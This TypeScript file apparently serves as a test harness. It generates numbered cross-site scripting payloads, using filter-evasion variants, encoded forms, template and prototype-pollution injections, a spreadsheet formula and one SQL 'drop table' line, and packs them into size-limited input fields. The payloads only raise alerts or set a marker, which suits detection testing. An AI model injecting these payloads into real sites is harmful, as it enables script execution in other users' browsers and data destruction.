/** What somebody writes who wants their words to run in the browser of whoever reads them. */

/** `C` stands for what is to be run, `N` for the number by which a payload is known again. */
const WAYS = [
  '<script>C</script>',
  '"><script>C</script>',
  "'><script>C</script>",
  '</textarea><script>C</script>',
  '</title><script>C</script>',
  '</style><script>C</script>',
  '--><script>C</script>',
  ']]><script>C</script>',
  '<SCRIPT>C</SCRIPT>',
  '<scr<script>ipt>C</scr</script>ipt>',
  '<ſcript>C</ſcript>',
  '＜script＞C＜/script＞',
  '<script src=data:,C></script>',
  '<script type=module>C</script>',
  '<img src=x onerror=C>',
  '<img src=x onerror="C">',
  '<img/src=x/onerror=C//',
  '<img src=`x`onerror=C>',
  '"autofocus onfocus=C x="',
  "' onmouseover='C",
  '<svg onload=C>',
  '<svg><script>C</script></svg>',
  '<svg><animate onbegin=C attributeName=x>',
  '<svg><a xlink:href="javascript:C">k</a></svg>',
  '<svg><use href="data:image/svg+xml,C#x">',
  '<svg><foreignObject><img src=x onerror=C>',
  '<math href="javascript:C">k</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=C>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=C>',
  '<noscript><p title="</noscript><img src=x onerror=C>">',
  '<template><img src=x onerror=C></template>',
  '<iframe srcdoc="<script>parent.C</script>">',
  '<iframe src="javascript:parent.C">',
  '<object data="javascript:C">',
  '<embed src="javascript:C">',
  '<a href="javascript:C">k</a>',
  '<a href="java&#115;cript:C">k</a>',
  '<form action="javascript:C"><button>k',
  '<button formaction="javascript:C">k',
  '<base href="javascript:C//">',
  '<meta http-equiv=refresh content="0;url=javascript:C">',
  '<link rel=stylesheet href="data:text/css,C">',
  '<link rel=modulepreload href="data:text/javascript,C">',
  '<style>@import "data:text/css,C";</style>',
  '<div style="background:url(javascript:C)">',
  '<body onload=C>',
  '<details open ontoggle=C>k',
  '<video><source onerror=C>',
  '<audio src=x onerror=C>',
  '<input autofocus onfocus=C>',
  '<select autofocus onfocus=C>',
  '<marquee onstart=C>k',
  '<xss tabindex=1 autofocus onfocus=C>',
  '<p onpointerover=C>k',
  '<dialog open oncancel=C>k',
  'javascript:C',
  'JaVaScRiPt:C//N',
  'data:text/html,<script>C</script>',
  '[k](javascript:C)',
  '![k](x"onerror="C)',
  '<http://x onerror=C>',
  '{{constructor.constructor("C")()}}',
  '{{C}} {{- C}} $t(C)',
  '$' + '{C}',
  '#{C}<%= C %>',
  "'-C-'",
  '"-C-"',
  '\\u003cscript\\u003eC\\u003c/script\\u003e',
  '&lt;script&gt;C&lt;/script&gt;',
  '&#60;img src=x onerror=C&#62;',
  '%3Cscript%3EC%3C/script%3E',
  '\u202e<script>C</script>\u202c',
  '\u2066<img src=x onerror=C>\u2069',
  '\u200f\u061c<svg onload=C>',
  'ਗੁਰਪ੍ਰੀਤ<img src=x onerror=C>ਸਿੰਘ',
  'गुरु<svg onload=C>प्रीत',
  'ਲਾ\u200dਪਤਾ"><script>C</script>',
  'e\u0301\u0323<img src=x onerror=C>',
  '{"__proto__":{"hit":"C"}}',
  'constructor.prototype.hit=C',
  '=HYPERLINK("javascript:C";"k")',
  "'; drop table report; --C",
] as const;
const RUNS = ["alert('zN')", "confirm('zN')", "prompt('zN')", "top['hit']='zN'"] as const;

/** All of them, each like no other, and short enough for the shortest field. */
export const PAYLOADS: readonly string[] = WAYS.flatMap((way, i) =>
  RUNS.map((run, j) => way.replaceAll('C', run).replaceAll('N', String(i * RUNS.length + j))),
);

/** Takes the payloads in turn, beginning again at the end, as many as a field has room for. */
export function payloadsInTurn(payloads = PAYLOADS) {
  let next = 0;
  return (room: number): string => {
    const taken: string[] = [];
    for (;;) {
      const payload = payloads[next % payloads.length] ?? '';
      if ([...taken, payload].join('\n').length > room) return taken.join('\n');
      taken.push(payload);
      next++;
    }
  };
}
